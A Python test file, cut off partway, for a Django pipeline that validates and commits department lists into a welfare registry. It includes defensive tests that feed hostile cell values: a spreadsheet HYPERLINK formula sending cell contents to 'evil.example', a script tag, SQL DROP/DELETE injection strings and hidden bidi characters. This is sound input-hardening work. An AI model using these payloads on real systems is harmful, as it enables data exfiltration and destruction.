"""The import pipeline: receive a department file → validate (a dry run) → commit, each batch kept for audit."""

import hashlib
import threading
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.utils import timezone

from canlian.common.tests.concurrency import race
from canlian.exchange import services
from canlian.exchange.models import (
    ChildScreening,
    DepartmentRecord,
    ImportBatch,
    ImportRow,
    MatchOutcome,
    MatchReview,
    RowAction,
    StatusProposal,
)
from canlian.exchange.sources import SOURCES
from canlian.exchange.tests.factories import (
    ASSISTANCE_HEADER,
    EMPLOYMENT_HEADER,
    FAMILY_DOCTOR_HEADER,
    LEGACY_HEADER,
    LIFE_EVENTS_HEADER,
    MEDICAL_HEADER,
    PENSION_HEADER,
    SCHOOL_HEADER,
    SCREENING_HEADER,
    batch_create,
    imported,
    problems_of,
    rows_by_number,
    validated,
    write_csv,
    write_xls,
    write_xlsx,
)
from canlian.registry.models import AssistanceStatus, Certificate, Person
from canlian.registry.tests.factories import make_id, make_person

State = ImportBatch.State
LIST_DATE = date(2025, 6, 30)


@pytest.fixture(autouse=True)
def _import_dir(settings, tmp_path):
    settings.IMPORT_DIR = tmp_path / "imports"


@pytest.fixture
def zhang(officer, areas):
    return make_person(by=officer, area=areas["beijiang"], name="张三丰", birth=date(1980, 1, 1), sequence=11)


@pytest.fixture
def wuyun(officer, areas):
    return make_person(by=officer, area=areas["beijiang"], name="乌云", birth=date(1992, 7, 15), sequence=68)


def _open_spells(person) -> list[tuple[str, date]]:
    return sorted(AssistanceStatus.objects.filter(person=person, ended_on__isnull=True)
                  .values_list("kind", "started_on"))


def _registry_counts() -> dict[str, int]:
    return {model.__name__: model.objects.count() for model in (
        Person, Certificate, AssistanceStatus, StatusProposal, DepartmentRecord, ChildScreening, MatchReview)}


# --- formats -------------------------------------------------------------------------------------


def _xlsx(path, rows):
    return write_xlsx(path.with_suffix(".xlsx"), rows)


def _xls(path, rows):
    return write_xls(path.with_suffix(".xls"), rows)


def _csv(encoding):
    def write(path, rows):
        return write_csv(path.with_suffix(".csv"), rows, encoding=encoding)
    write.__name__ = f"csv_{encoding}"
    return write


WRITERS = [_xlsx, _xls, _csv("utf-8"), _csv("utf-8-sig"), _csv("gbk"), _csv("gb18030"), _csv("utf-16")]


@pytest.mark.parametrize("write", WRITERS, ids=lambda w: w.__name__)
def test_list_is_accepted_as_xlsx_xls_or_csv_in_any_common_encoding(officer, areas, zhang, wuyun, tmp_path, write):
    path = write(tmp_path / "低保名单", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2024-01-01"],
                                        [wuyun.id_number, "乌云", "特困", "2024年3月5日"]])
    batch = imported(path, by=officer, source="assistance", area=areas["city"])
    assert batch.state == State.COMMITTED
    assert _open_spells(zhang) == [("dibao", date(2024, 1, 1))]
    assert _open_spells(wuyun) == [("extreme_poverty", date(2024, 3, 5))]


# --- headers -------------------------------------------------------------------------------------


@pytest.mark.parametrize("id_header", ["身份证号", "公民身份号码", "证件号码", "身份证号码", "身份证号（18位）",
                                       "*身份证号", " 身份证 号 ", "身份证号(必填)"])
def test_id_column_is_found_by_any_of_its_names(officer, areas, zhang, tmp_path, id_header):
    path = write_xlsx(tmp_path / "a.xlsx", [[id_header, "姓名", "保障类型", "享受日期"],
                                            [zhang.id_number, "张三丰", "城市低保", "2024-01-01"]])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    assert batch.state == State.VALIDATED, batch.message
    assert batch.new_count == 1


def test_columns_may_come_in_any_order_with_extra_columns(officer, areas, zhang, tmp_path):
    path = write_xlsx(tmp_path / "a.xlsx", [["序号", "起始日期", "家庭住址", "救助类型", "姓名", "身份证号"],
                                            [1, "2024-01-01", "北疆社区", "低保", "张三丰", zhang.id_number]])
    batch = imported(path, by=officer, source="assistance", area=areas["city"])
    assert _open_spells(zhang) == [("dibao", date(2024, 1, 1))]
    assert batch.new_count == 1


def test_persons_own_name_column_wins_over_an_earlier_household_head_column(officer, areas, zhang, tmp_path):
    # 低保 lists are kept by household: 户主姓名 often comes first, the member's own 姓名 later.
    path = write_xlsx(tmp_path / "a.xlsx", [["户主姓名", "身份证号", "姓名", "与户主关系", "救助类型", "起始日期"],
                                            ["王大", zhang.id_number, "张三丰", "子", "低保", "2024-01-01"]])
    batch = imported(path, by=officer, source="assistance", area=areas["city"])
    assert batch.rows.get().match == MatchOutcome.MATCHED
    assert _open_spells(zhang) == [("dibao", date(2024, 1, 1))]


def test_missing_required_column_is_named_in_the_refusal(officer, areas, zhang, tmp_path):
    path = write_xlsx(tmp_path / "a.xlsx", [["身份证号", "姓名", "起始日期"], [zhang.id_number, "张三丰", "2024-01-01"]])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    assert batch.state == State.REJECTED
    assert "缺少必填列" in batch.message and "救助类型" in batch.message
    assert batch.rows.count() == 0


def test_every_missing_required_column_is_named(officer, areas, tmp_path):
    path = write_csv(tmp_path / "a.csv", [["身份证号", "备注"], [make_id(), "x"]])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    assert batch.state == State.REJECTED
    for label in ("姓名", "救助类型", "起始日期"):
        assert label in batch.message
    assert "身份证号" not in batch.message.split("：", 1)[1].split("。")[0]


def test_title_rows_above_the_header_are_tolerated_and_rows_keep_excel_numbers(officer, areas, zhang, tmp_path):
    path = write_xlsx(tmp_path / "a.xlsx", [
        ["二连浩特市2025年6月城乡低保名单"],
        ["填报单位：民政局", None, "填报日期：2025-06-30"],
        ASSISTANCE_HEADER,
        [zhang.id_number, "张三丰", "低保", "2024-01-01"],
        ["123", "李四", "低保", "2024-01-01"],
    ])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    assert batch.state == State.VALIDATED, batch.message
    assert problems_of(batch)[0][0] == 5  # header on Excel row 3, the bad row is Excel row 5
    assert rows_by_number(batch)[4].match == MatchOutcome.MATCHED


def test_first_data_row_is_row_two_as_excel_numbers_it(officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, ["123", "张三丰", "低保", "2024-01-01"],
                                          [zhang.id_number, "张三丰", "低保", "2024-01-01"]])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    assert [p[0] for p in problems_of(batch)] == [2]
    assert rows_by_number(batch)[3].valid


def test_blank_lines_are_skipped_without_shifting_row_numbers(officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2024-01-01"],
                                          [], ["", "", "", ""], ["123", "李四", "低保", "2024-01-01"]])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    assert batch.rows.count() == 2
    assert [p[0] for p in problems_of(batch)] == [5]


# --- normalisation end to end ------------------------------------------------------------------


def test_cells_written_the_ways_officials_write_them_all_match(officer, areas, tmp_path):
    people = [make_person(by=officer, area=areas["beijiang"], name=f"人员{chr(0x4e00 + i)}", sequence=11 + 2 * i)
              for i in range(6)]
    people.append(make_person(by=officer, area=areas["beijiang"], name="乌云", birth=date(1992, 7, 15), sequence=68))
    ids = [p.id_number for p in people]
    full_width = "".join(chr(ord(c) + 0xFEE0) for c in ids[0])
    legacy = ids[2][:6] + ids[2][8:17]
    rows = [ASSISTANCE_HEADER,
            [full_width, people[0].name, "低保", 45292],  # Excel serial of 2024-01-01, as a number cell
            [f"{ids[1][:6]} {ids[1][6:14]} {ids[1][14:]}", people[1].name, "城市低保", datetime(2024, 1, 1, 9, 15)],
            [legacy, people[2].name, "农村牧区低保", "2024/1/1"],
            [ids[3], people[3].name, "低保", "2024.01.01"],
            [ids[4], people[4].name, "低保", "2024年1月1日"],
            [ids[5], people[5].name, "低保", "20240101"],
            [ids[6].lower(), "乌云", "低保", "2024-1-1"]]
    batch = validated(write_xlsx(tmp_path / "a.xlsx", rows), by=officer, source="assistance", area=areas["city"])
    assert problems_of(batch) == []
    assert batch.new_count == 7
    assert set(batch.rows.values_list("id_number", flat=True)) == set(ids)
    assert set(batch.rows.values_list("on", flat=True)) == {date(2024, 1, 1)}


def test_excel_serial_that_reached_a_csv_as_text_is_a_date(officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "45292"]])
    batch = imported(path, by=officer, source="assistance", area=areas["city"])
    assert _open_spells(zhang) == [("dibao", date(2024, 1, 1))]
    assert batch.new_count == 1


def test_eighteen_digit_id_stored_by_excel_as_a_number_is_refused_on_its_row(officer, areas, zhang, tmp_path):
    path = write_xlsx(tmp_path / "a.xlsx", [ASSISTANCE_HEADER, [int(zhang.id_number), "张三丰", "低保", "2024-01-01"]])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    [(row, column, _value, message)] = problems_of(batch)
    assert (row, column) == (2, "身份证号")
    assert "存成了数字" in message and "文本" in message


# --- every bad row reported --------------------------------------------------------------------


def test_every_bad_row_is_reported_with_row_column_value_and_message(officer, areas, zhang, tmp_path):
    future = (timezone.localdate() + timedelta(days=3)).isoformat()
    wrong_check = zhang.id_number[:17] + ("0" if zhang.id_number[17] != "0" else "1")
    path = write_csv(tmp_path / "a.csv", [
        ASSISTANCE_HEADER,
        [zhang.id_number, "张三丰", "低保", "2024-01-01"],
        [wrong_check, "李四", "低保", "2024-01-01"],
        [make_id(sequence=13), "", "低保", "2024-01-01"],
        [make_id(sequence=15), "王五", "救济", "2024-01-01"],
        [make_id(sequence=17), "赵六", "低保", "2024-02-30"],
        [make_id(sequence=19), "钱七", "低保", future],
    ], encoding="gbk")
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    assert batch.state == State.VALIDATED
    assert batch.error_rows == 5
    reported = problems_of(batch)
    assert [(row, column, value) for row, column, value, _message in reported] == [
        (3, "身份证号", wrong_check),
        (4, "姓名", ""),
        (5, "救助类型", "救济"),
        (6, "起始日期", "2024-02-30"),
        (7, "起始日期", future),
    ]
    messages = [message for *_cells, message in reported]
    assert f"最后一位应为 {zhang.id_number[17]}" in messages[0]
    assert "不能为空" in messages[1]
    assert "低保" in messages[2]
    assert "不是有效日期" in messages[3]
    assert "今天之后" in messages[4]


def test_row_with_several_problems_reports_each(officer, areas, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, ["123", "", "救济", "明天"]])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    assert {column for _row, column, _value, _message in problems_of(batch)} == {"身份证号", "姓名", "救助类型", "起始日期"}


def test_start_date_after_the_list_date_is_reported(officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2025-07-01"]])
    batch = validated(path, by=officer, source="assistance", area=areas["city"], list_date=LIST_DATE)
    [(row, column, _value, message)] = problems_of(batch)
    assert (row, column) == (2, "起始日期")
    assert "2025-06-30" in message


def test_duplicate_row_within_the_file_is_reported_on_the_second_row(officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2024-01-01"],
                                          [make_id(sequence=13), "李四", "低保", "2024-01-01"],
                                          [zhang.id_number.lower(), "张三丰", "低保", "2024-02-01"]])
    batch = imported(path, by=officer, source="assistance", area=areas["city"])
    [(row, column, value, message)] = problems_of(batch)
    assert (row, column, value) == (4, "身份证号", zhang.id_number)
    assert "第 2 行" in message
    assert _open_spells(zhang) == [("dibao", date(2024, 1, 1))]  # the first row applies


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "<script>alert(1)</script>",
    "'; DROP TABLE registry_person;--",
    "张三丰" * 3400,  # a 10,000-character cell
])
def test_hostile_name_is_reported_and_nothing_is_applied_for_it(officer, areas, zhang, tmp_path, hostile):
    path = write_xlsx(tmp_path / "a.xlsx", [ASSISTANCE_HEADER, [zhang.id_number, hostile, "低保", "2024-01-01"]])
    batch = imported(path, by=officer, source="assistance", area=areas["city"])
    [(row, column, value, message)] = problems_of(batch)
    assert (row, column) == (2, "姓名")
    assert value == hostile[:100]
    assert message
    assert _open_spells(zhang) == []
    assert Person.objects.filter(pk=zhang.pk, name="张三丰").exists()


def test_bidi_and_invisible_characters_in_a_name_never_reach_the_registry(officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER,
                                          [zhang.id_number, "张\u202e三\u200b丰\x07", "低保", "2024-01-01"]])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    row = batch.rows.get()
    assert row.name == "张三丰"
    assert row.match == MatchOutcome.MATCHED


def test_bidi_character_hidden_in_an_id_number_is_reported(officer, areas, zhang, tmp_path):
    hidden = zhang.id_number[:9] + "\u202e" + zhang.id_number[9:]
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [hidden, "张三丰", "低保", "2024-01-01"]])
    batch = imported(path, by=officer, source="assistance", area=areas["city"])
    assert [(r, c) for r, c, _v, _m in problems_of(batch)] == [(2, "身份证号")]
    assert _open_spells(zhang) == []


def test_sql_in_a_free_text_cell_is_stored_as_plain_text(officer, areas, zhang, tmp_path):
    hostile = "x'); DELETE FROM registry_person;--"
    path = write_csv(tmp_path / "a.csv", [EMPLOYMENT_HEADER, [zhang.id_number, "张三丰", "2024-01-01", "", hostile, "按比例"]])
    imported(path, by=officer, source="employment", area=areas["city"])
    assert DepartmentRecord.objects.get(person=zhang).organisation == hostile
    assert Person.objects.filter(pk=zhang.pk).exists()


# --- another area's people ---------------------------------------------------------------------


def test_person_of_another_community_on_a_community_list_is_treated_as_not_in_registry(
        officer, beijiang_officer, areas, zhang, tmp_path):
    dongcheng = make_person(by=officer, area=areas["dongcheng"], name="巴特尔", sequence=21)
    with_spell = imported(write_csv(tmp_path / "city.csv", [ASSISTANCE_HEADER,
                                                             [dongcheng.id_number, "巴特尔", "低保", "2024-01-01"]]),
                          by=officer, source="assistance", area=areas["city"])
    assert with_spell.state == State.COMMITTED
    unknown_id = make_id(sequence=97)
    path = write_csv(tmp_path / "beijiang.csv", [
        ASSISTANCE_HEADER,
        [zhang.id_number, "张三丰", "特困", "2024-01-01"],
        [dongcheng.id_number, "巴特尔", "特困", "2024-01-01"],
        [unknown_id, "无名", "特困", "2024-01-01"],
    ])
    batch = imported(path, by=beijiang_officer, source="assistance", area=areas["beijiang"])
    assert batch.state == State.COMMITTED
    assert (batch.new_count, batch.ended_count) == (1, 0)
    assert _open_spells(dongcheng) == [("dibao", date(2024, 1, 1))]  # no 特困 for them, 低保 not ended
    rows = rows_by_number(batch)
    stranger, nobody = rows[3], rows[4]
    # Exactly what a number nobody holds looks like: nothing tells the officer the person exists elsewhere.
    assert (stranger.match, stranger.person_id, stranger.action) == (MatchOutcome.NOT_IN_REGISTRY, None, RowAction.SKIPPED)
    assert (nobody.match, nobody.person_id, nobody.action) == (MatchOutcome.NOT_IN_REGISTRY, None, RowAction.SKIPPED)
    review = MatchReview.objects.get(batch=batch, row_number=3)
    assert (review.outcome, review.person_id) == (MatchOutcome.NOT_IN_REGISTRY, None)


def test_community_officer_cannot_import_a_list_for_another_community(beijiang_officer, areas, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [make_id(), "张三丰", "低保", "2024-01-01"]])
    with pytest.raises(ValidationError) as excinfo:
        batch_create(path, by=beijiang_officer, source="assistance", area=areas["dongcheng"])
    assert "东城社区" in excinfo.value.message_dict["area"][0]
    assert not ImportBatch.objects.exists()


def test_community_list_does_not_end_statuses_in_another_community(officer, beijiang_officer, areas, zhang, tmp_path):
    dongcheng = make_person(by=officer, area=areas["dongcheng"], name="巴特尔", sequence=21)
    imported(write_csv(tmp_path / "city.csv", [ASSISTANCE_HEADER, [dongcheng.id_number, "巴特尔", "低保", "2024-01-01"],
                                               [zhang.id_number, "张三丰", "低保", "2024-01-01"]]),
             by=officer, source="assistance", area=areas["city"], list_date=date(2024, 6, 30))
    wuyun = make_person(by=officer, area=areas["beijiang"], name="乌云", birth=date(1992, 7, 15), sequence=68)
    batch = imported(write_csv(tmp_path / "beijiang.csv", [ASSISTANCE_HEADER, [wuyun.id_number, "乌云", "低保", "2025-01-01"]]),
                     by=beijiang_officer, source="assistance", area=areas["beijiang"])
    assert batch.ended_count == 1
    assert _open_spells(zhang) == []  # in 北疆, dropped off the 北疆 list
    assert _open_spells(dongcheng) == [("dibao", date(2024, 1, 1))]


# --- files refused -------------------------------------------------------------------------------


def test_empty_file_is_refused_at_the_file_field(officer, areas, tmp_path):
    path = tmp_path / "空.csv"
    path.write_bytes(b"")
    with pytest.raises(ValidationError) as excinfo:
        batch_create(path, by=officer, source="assistance", area=areas["city"])
    assert "空" in excinfo.value.message_dict["file"][0]
    assert not ImportBatch.objects.exists()


def test_header_only_file_is_rejected_saying_it_has_no_rows(officer, areas, tmp_path):
    batch = validated(write_xlsx(tmp_path / "a.xlsx", [ASSISTANCE_HEADER]), by=officer, source="assistance",
                      area=areas["city"])
    assert batch.state == State.REJECTED
    assert "只有表头" in batch.message


def test_file_with_only_blank_rows_under_the_header_is_rejected(officer, areas, tmp_path):
    batch = validated(write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, ["", "", "", ""], []]), by=officer,
                      source="assistance", area=areas["city"])
    assert batch.state == State.REJECTED
    assert "只有表头" in batch.message


def test_binary_file_that_is_not_a_spreadsheet_is_rejected_with_a_message(officer, areas, tmp_path):
    path = tmp_path / "照片.xlsx"
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4)
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    assert batch.state == State.REJECTED
    assert "上传" in batch.message
    assert batch.rows.count() == 0


def test_file_over_the_size_limit_is_refused_at_the_file_field_and_not_kept(officer, areas, settings, tmp_path):
    settings.IMPORT_MAX_BYTES = 1000
    rows = [ASSISTANCE_HEADER] + [[make_id(sequence=s), "张三丰", "低保", "2024-01-01"] for s in range(1, 60, 2)]
    path = write_csv(tmp_path / "a.csv", rows)
    assert path.stat().st_size > 1000
    with pytest.raises(ValidationError) as excinfo:
        services.import_batch_create(by=officer, source="assistance", area=areas["city"], list_date=LIST_DATE,
                                     chunks=[path.read_bytes()[i:i + 256] for i in range(0, path.stat().st_size, 256)],
                                     file_name=path.name)
    assert "拆分" in excinfo.value.message_dict["file"][0]
    assert not ImportBatch.objects.exists()
    assert list(settings.IMPORT_DIR.iterdir()) == []


def test_file_within_the_size_limit_is_accepted(officer, areas, settings, tmp_path):
    settings.IMPORT_MAX_BYTES = 1000
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [make_id(), "张三丰", "低保", "2024-01-01"]])
    assert batch_create(path, by=officer, source="assistance", area=areas["city"]).state == State.QUEUED


def test_list_over_the_row_limit_is_rejected_asking_to_split_it(officer, areas, settings, tmp_path):
    settings.IMPORT_MAX_ROWS = 3
    rows = [ASSISTANCE_HEADER] + [[make_id(sequence=s), "张三丰", "低保", "2024-01-01"] for s in (1, 3, 5, 7)]
    batch = validated(write_xlsx(tmp_path / "a.xlsx", rows), by=officer, source="assistance", area=areas["city"])
    assert batch.state == State.REJECTED
    assert "4" in batch.message and "3" in batch.message and "拆分" in batch.message
    assert batch.rows.count() == 0


def test_list_at_the_row_limit_is_accepted(officer, areas, settings, tmp_path):
    settings.IMPORT_MAX_ROWS = 3
    rows = [ASSISTANCE_HEADER] + [[make_id(sequence=s), "张三丰", "低保", "2024-01-01"] for s in (1, 3, 5)]
    batch = validated(write_csv(tmp_path / "a.csv", rows), by=officer, source="assistance", area=areas["city"])
    assert batch.state == State.VALIDATED
    assert batch.total_rows == 3


def test_unknown_source_is_refused_at_the_source_field(officer, areas, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER])
    with pytest.raises(ValidationError) as excinfo:
        batch_create(path, by=officer, source="lottery", area=areas["city"])
    assert "source" in excinfo.value.message_dict


def test_list_dated_after_today_is_refused_at_the_list_date_field(officer, areas, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER])
    with pytest.raises(ValidationError) as excinfo:
        batch_create(path, by=officer, source="assistance", area=areas["city"],
                     list_date=timezone.localdate() + timedelta(days=1))
    assert "list_date" in excinfo.value.message_dict


# --- validation is a dry run ---------------------------------------------------------------------


def _rows_changing_something(source: str, person, child_id: str) -> list[list]:
    header, row = {
        "assistance": (ASSISTANCE_HEADER, [person.id_number, person.name, "低保", "2024-01-01"]),
        "life_events": (LIFE_EVENTS_HEADER, [person.id_number, person.name, "死亡", "2025-01-01", "死亡证明"]),
        "medical_insurance": (MEDICAL_HEADER, [person.id_number, person.name, "2024-01-01", "", "职工医保"]),
        "pension_insurance": (PENSION_HEADER, [person.id_number, person.name, "2024-01-01", "", "市社保中心"]),
        "employment": (EMPLOYMENT_HEADER, [person.id_number, person.name, "2024-01-01", "", "某公司", "按比例"]),
        "school": (SCHOOL_HEADER, [person.id_number, person.name, "2024-09-01", "", "特殊教育学校", "随班就读"]),
        "family_doctor": (FAMILY_DOCTOR_HEADER, [person.id_number, person.name, "2024-01-01", "", "社区卫生服务中心"]),
        "child_screening": (SCREENING_HEADER, [child_id, "小明", "2025-03-01", "听力", "市医院", "北疆社区"]),
        "legacy_registry": (LEGACY_HEADER, [make_id(date(1970, 5, 5), 31), "老王", "北疆社区", "肢体", "二级",
                                            "2015-05-01", ""]),
    }[source]
    return [header, row]


def _a_file_changing_something(source: str, tmp_path, person, child_id: str):
    return write_csv(tmp_path / f"{source}.csv", _rows_changing_something(source, person, child_id))


@pytest.mark.parametrize("write", [_xlsx, _xls, _csv("utf-8"), _csv("gbk")], ids=lambda w: w.__name__)
@pytest.mark.parametrize("source", sorted(SOURCES))
def test_every_source_imports_from_xlsx_xls_utf8_and_gbk_csv(officer, areas, zhang, tmp_path, source, write):
    path = write(tmp_path / source, _rows_changing_something(source, zhang, make_id(date(2021, 4, 1), 33)))
    batch = imported(path, by=officer, source=source, area=areas["city"])
    assert (batch.state, batch.error_rows, batch.new_count) == (State.COMMITTED, 0, 1), batch.message


@pytest.mark.parametrize("source", ["assistance", "life_events", "medical_insurance", "employment",
                                    "child_screening", "legacy_registry"])
def test_validation_changes_nothing_in_the_registry(officer, areas, zhang, tmp_path, source):
    path = _a_file_changing_something(source, tmp_path, zhang, make_id(date(2021, 4, 1), 33))
    before = _registry_counts()
    batch = validated(path, by=officer, source=source, area=areas["city"])
    assert batch.state == State.VALIDATED, batch.message
    assert batch.new_count == 1, "the dry run counts what commit would change"
    assert _registry_counts() == before
    services.import_commit(batch=batch, by=officer)
    assert _registry_counts() != before, "the same file does change the registry once committed"


def test_validation_keeps_zhangs_person_record_untouched(officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [LIFE_EVENTS_HEADER, [zhang.id_number, "张三丰", "死亡", "2025-01-01", ""]])
    validated(path, by=officer, source="life_events", area=areas["city"])
    zhang.refresh_from_db()
    assert zhang.life_status == "active"


# --- commit --------------------------------------------------------------------------------------


def test_commit_keeps_the_batch_with_source_file_digest_people_time_counts_and_state(
        officer, areas, zhang, wuyun, tmp_path):
    path = write_xlsx(tmp_path / "民政低保名单.xlsx", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2024-01-01"],
                                                  [wuyun.id_number, "乌云", "低保", "2024-01-01"],
                                                  ["123", "李四", "低保", "2024-01-01"]])
    before = timezone.now()
    batch = imported(path, by=officer, source="assistance", area=areas["city"])
    assert batch.state == State.COMMITTED
    assert batch.source == "assistance"
    assert batch.file_name == "民政低保名单.xlsx"
    assert batch.file_sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert batch.file_size == path.stat().st_size
    assert batch.created_by == officer and batch.committed_by == officer
    assert batch.committed_at >= before
    assert batch.list_date == LIST_DATE and batch.area == areas["city"]
    assert (batch.total_rows, batch.error_rows, batch.new_count) == (3, 1, 2)
    assert Path(batch.stored_path).read_bytes() == path.read_bytes()


def test_commit_applies_every_valid_row_and_skips_the_bad_ones(officer, areas, zhang, wuyun, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2024-01-01"],
                                          [wuyun.id_number, "乌云", "低保", "明年"]])
    batch = imported(path, by=officer, source="assistance", area=areas["city"])
    assert _open_spells(zhang) == [("dibao", date(2024, 1, 1))]
    assert _open_spells(wuyun) == []
    assert (batch.new_count, batch.error_rows) == (1, 1)


def test_commit_is_one_transaction_undone_entirely_when_it_cannot_finish(officer, areas, zhang, wuyun, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2024-01-01"],
                                          [wuyun.id_number, "乌云", "低保", "2024-01-01"]])
    first = services.import_validate(batch=batch_create(path, by=officer, source="assistance", area=areas["city"]))
    second = services.import_validate(batch=batch_create(path, by=officer, source="assistance", area=areas["city"]))
    services.import_commit(batch=first, by=officer)
    # Someone ends 乌云's spell meanwhile, so the second batch would start a new one before it fails at the end.
    AssistanceStatus.objects.filter(person=wuyun).update(ended_on=date(2024, 6, 1))
    second = services.import_commit(batch=second, by=officer)
    assert second.state == State.DUPLICATE
    assert _open_spells(wuyun) == [], "the spell the failed commit started is rolled back with it"
    assert AssistanceStatus.objects.filter(person=wuyun).count() == 1


def test_commit_by_an_officer_outside_the_area_is_refused_and_the_batch_waits(
        officer, dongcheng_officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2024-01-01"]])
    batch = validated(path, by=officer, source="assistance", area=areas["beijiang"])
    with pytest.raises(ValidationError):
        services.import_commit(batch=batch, by=dongcheng_officer)
    batch.refresh_from_db()
    assert batch.state == State.VALIDATED
    assert _open_spells(zhang) == []


@pytest.mark.parametrize("state", [State.QUEUED, State.REJECTED, State.DISCARDED, State.DUPLICATE])
def test_only_a_validated_batch_can_be_committed(officer, areas, zhang, tmp_path, state):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2024-01-01"]])
    batch = batch_create(path, by=officer, source="assistance", area=areas["city"])
    ImportBatch.objects.filter(pk=batch.pk).update(state=state)
    with pytest.raises(ValidationError):
        services.import_commit(batch=batch, by=officer)
    assert ImportBatch.objects.get(pk=batch.pk).state == state
    assert _open_spells(zhang) == []


def test_discarded_batch_applies_nothing_and_drops_its_staged_rows(officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2024-01-01"]])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    services.import_discard(batch=batch, by=officer)
    assert ImportBatch.objects.get(pk=batch.pk).state == State.DISCARDED
    assert not ImportRow.objects.filter(batch=batch).exists()
    with pytest.raises(ValidationError):
        services.import_commit(batch=batch, by=officer)
    with pytest.raises(ValidationError):
        services.import_discard(batch=batch, by=officer)
    assert _open_spells(zhang) == []


def test_discarded_file_can_be_imported_again(officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2024-01-01"]])
    services.import_discard(batch=validated(path, by=officer, source="assistance", area=areas["city"]), by=officer)
    assert imported(path, by=officer, source="assistance", area=areas["city"]).state == State.COMMITTED


# --- match results become a worklist at commit ---------------------------------------------------


def test_unclean_matches_become_match_reviews_at_commit_only(officer, areas, zhang, wuyun, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER,
                                          [zhang.id_number, "张三丰", "低保", "2024-01-01"],
                                          [wuyun.id_number, "乌云其其格", "低保", "2024-01-01"],
                                          [make_id(sequence=97), "无名", "低保", "2024-01-01"],
                                          ["15250119800101011", "错号", "低保", "2024-01-01"]])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    assert [(r.row_number, r.match) for r in batch.rows.order_by("row_number")] == [
        (2, MatchOutcome.MATCHED), (3, MatchOutcome.NAME_DIFFERS), (4, MatchOutcome.NOT_IN_REGISTRY),
        (5, MatchOutcome.ID_INVALID)]
    assert not MatchReview.objects.exists()
    services.import_commit(batch=batch, by=officer)
    reviews = list(MatchReview.objects.filter(batch=batch).order_by("row_number")
                   .values_list("row_number", "outcome", "id_number", "name", "person_id"))
    assert reviews == [
        (3, MatchOutcome.NAME_DIFFERS, wuyun.id_number, "乌云其其格", wuyun.pk),
        (4, MatchOutcome.NOT_IN_REGISTRY, make_id(sequence=97), "无名", None),
        (5, MatchOutcome.ID_INVALID, "15250119800101011", "错号", None),  # as written, to tell the department
    ]


# --- idempotence ---------------------------------------------------------------------------------


def test_same_file_imported_twice_is_a_duplicate_that_changes_nothing(officer, areas, zhang, tmp_path):
    path = write_xlsx(tmp_path / "a.xlsx", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2024-01-01"]])
    first = imported(path, by=officer, source="assistance", area=areas["city"])
    before = _registry_counts()
    second = batch_create(path, by=officer, source="assistance", area=areas["city"])
    assert second.state == State.DUPLICATE
    assert f"#{first.pk}" in second.message and "未做任何修改" in second.message
    second = services.import_validate(batch=second)
    assert second.state == State.DUPLICATE
    with pytest.raises(ValidationError):
        services.import_commit(batch=second, by=officer)
    assert _registry_counts() == before
    assert ImportBatch.objects.filter(state=State.COMMITTED).count() == 1


def test_same_file_for_another_source_is_not_a_duplicate(officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [["身份证号", "姓名", "救助类型", "起始日期", "参保日期", "参保险种"],
                                          [zhang.id_number, "张三丰", "低保", "2024-01-01", "2024-01-01", "居民医保"]])
